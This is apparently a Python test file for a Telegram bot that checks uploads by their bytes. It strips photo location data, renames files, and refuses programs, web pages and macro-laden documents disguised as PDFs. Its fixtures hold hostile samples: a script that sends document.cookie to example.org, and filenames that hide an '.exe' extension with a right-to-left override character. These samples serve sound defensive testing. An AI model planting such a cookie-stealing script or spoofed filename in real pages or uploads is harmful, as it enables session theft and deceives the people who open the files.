"""Files are judged by their bytes and named by the bot (bot/core/uploads.py): a photo sent as a file
loses its location whatever type the phone announced; a program announced as a PDF is refused
and the question asked again; staff receive files under the bot's names, with the sender's
name, cleaned of bidi tricks, only as a label."""

from __future__ import annotations

import io
import re

import pillow_heif
from PIL import ExifTags, Image
from sqlalchemy import select

from bot.projects import reports as project_reports
from bot.projects.models import Project, ProjectFile, ProjectReport
from bot.ruos.models import StoredFile
from tests.flows import consented
from tests.harness import STAFF_TELEGRAM_ID
from tests.test_projects import funded_project, organization_of, proposal_at_the_document_step
from tests.test_ruos import organization_led_by, word_document

pillow_heif.register_heif_opener()

# A Windows program's first bytes, announced by the phone as a PDF.
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"This program cannot be run in DOS mode."
WEB_PAGE = b"<!DOCTYPE html><html><script>fetch('https://example.org/?' + document.cookie)</script></html>"


def photo_with_gps(colour: str, image_format: str = "JPEG") -> bytes:
    """A picture as a phone makes it: the maker and the place it was taken in its EXIF."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "S", ExifTags.GPS.GPSLatitude: (12.0, 3.0, 30.0),
        ExifTags.GPS.GPSLongitudeRef: "W", ExifTags.GPS.GPSLongitude: (77.0, 7.0, 15.0),
    }
    out = io.BytesIO()
    Image.new("RGB", (64, 48), colour).save(out, format=image_format, exif=exif)
    assert b"PhoneMaker" in out.getvalue()
    return out.getvalue()


def assert_without_metadata(content: bytes) -> None:
    image = Image.open(io.BytesIO(content))
    assert image.format == "JPEG" and not image.getexif() and b"PhoneMaker" not in content


async def test_photos_sent_as_files_keep_no_location_whatever_the_phone_calls_them_and_reach_staff_under_the_bots_names(bot):
    leader = bot.user(first_name="Carmen", language_code="en")
    await organization_led_by(bot, leader)
    await leader.sends("/ruos")
    await leader.taps("Copy of the minute book")
    await leader.taps("Upload")
    await leader.uploads_document(photo_with_gps("white"), "IMG_2041.JPG", "image/jpg")
    await leader.uploads_document(photo_with_gps("ivory", "HEIF"), "IMG_2042.HEIC", "application/octet-stream")
    await leader.uploads_document(photo_with_gps("linen"), "acta\u202egpj.exe", "image/pjpeg")
    assert "pages received: 3" in leader.last_text
    async with await bot.session() as session:
        pages = (await session.scalars(select(StoredFile).order_by(StoredFile.id))).all()
    for page in pages:
        assert_without_metadata(bot.runtime.files.read(page.storage_path))
    assert [page.mime_type for page in pages] == ["image/jpeg"] * 3
    assert [page.original_name for page in pages] == ["IMG_2041.JPG", "IMG_2042.HEIC", "actagpj.exe"]
    await leader.uploads_document(PROGRAM, "acta.pdf", "application/pdf")
    assert "That file is a program" in leader.last_text and "✅ Done" in leader.buttons   # the upload goes on
    await leader.taps("Done")

    staff = bot.user(STAFF_TELEGRAM_ID, first_name="Lucía", language_code="en")
    await consented(staff)
    await staff.sends("/review")
    await staff.taps("Copy of the minute book")
    names = [document.file_name for document in staff.documents]
    assert names == [f"ruos-callao-mujeres-emprendedoras-del-callao-libro-actas-{page.id}.jpg" for page in pages]
    captions = [message.get("caption", "") for message in staff.messages if "document" in message]
    assert captions[2] == "Sent as “actagpj.exe”" and not any("\u202e" in caption for caption in captions)
    await leader.sends("/mydata")                                  # the leader sees the same names
    assert f"{names[2]} (“actagpj.exe”)" in "\n".join(leader.texts_since_last_action)

    # A report's evidence: the same photo, announced as anything, is kept without its location.
    rosa = bot.user(first_name="Rosa", language_code="en")
    await consented(rosa)
    project_id = await funded_project(bot, await organization_of(bot, rosa, name="Olla Común Los Jazmines"))
    async with await bot.session() as session:
        report = await session.scalar(select(ProjectReport).where(ProjectReport.project_id == project_id, ProjectReport.number == 1))
        report.step = project_reports.EVIDENCE  # the report written up to its photos
    await rosa.sends("/report")
    await rosa.taps("report 1")
    await rosa.uploads_document(photo_with_gps("red"), "foto", "application/octet-stream")
    assert "Files received for this report: 1" in rosa.last_text
    await rosa.uploads_document(WEB_PAGE, "informe.pdf", "application/pdf")
    assert "That file is a web page" in rosa.last_text and "✅ Done" in rosa.buttons
    async with await bot.session() as session:
        evidence = (await session.scalars(select(ProjectFile))).one()
    assert evidence.mime_type == "image/jpeg"
    assert_without_metadata(bot.runtime.files.read(evidence.storage_path))


async def test_a_program_announced_as_a_pdf_is_refused_and_a_proposal_reaches_staff_under_the_bots_name(bot):
    rosa = bot.user(first_name="Rosa", language_code="en")
    await consented(rosa)
    await organization_of(bot, rosa)
    staff = bot.user(STAFF_TELEGRAM_ID, first_name="Lucía", language_code="en")
    await consented(staff)
    await proposal_at_the_document_step(rosa)

    await rosa.uploads_document(PROGRAM, "propuesta.pdf", "application/pdf")
    assert "That file is a program" in rosa.last_text
    assert "If you have the full proposal as a document" in rosa.last_text               # the same question again
    await rosa.uploads_document(word_document(macros=True), "propuesta.docx",
                                "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
    assert "carries macros" in rosa.last_text and "If you have the full proposal as a document" in rosa.last_text
    assert not list(bot.runtime.files.root.rglob("*.enc"))                              # nothing of them kept

    await rosa.uploads_document(b"%PDF-1.4 the full proposal", "propuesta\u202efdp.exe", "application/pdf")
    assert "propuestafdp.exe" in rosa.last_text and "\u202e" not in rosa.last_text
    await rosa.taps("Send to the programme")
    async with await bot.session() as session:
        project_id = await session.scalar(select(Project.id))

    await staff.sends("/proposals")
    await staff.taps("Huertos familiares")
    bots_name = f"proposal-mujeres-emprendedoras-del-callao-{project_id}.pdf"
    assert f"{bots_name} (“propuestafdp.exe”)" in staff.last_text
    await staff.taps("Proposal document")
    [document] = staff.documents
    assert document.file_name == bots_name and document.content == b"%PDF-1.4 the full proposal"
    assert staff.last_text == "Sent as “propuestafdp.exe”"
    assert not any(re.search("[\u202a-\u202e\u2066-\u2069]", message.get("text", message.get("caption", "")))
                   for message in staff.messages)

    # A Spanish reader gets the name in Spanish, on the card and on the file.
    await staff.sends("/language")
    await staff.taps("Español")
    await staff.sends("/propuestas")
    await staff.taps("Huertos familiares")
    spanish_name = f"propuesta-mujeres-emprendedoras-del-callao-{project_id}.pdf"
    assert f"{spanish_name} (“propuestafdp.exe”)" in staff.last_text
    await staff.taps("Documento")
    assert staff.documents[-1].file_name == spanish_name
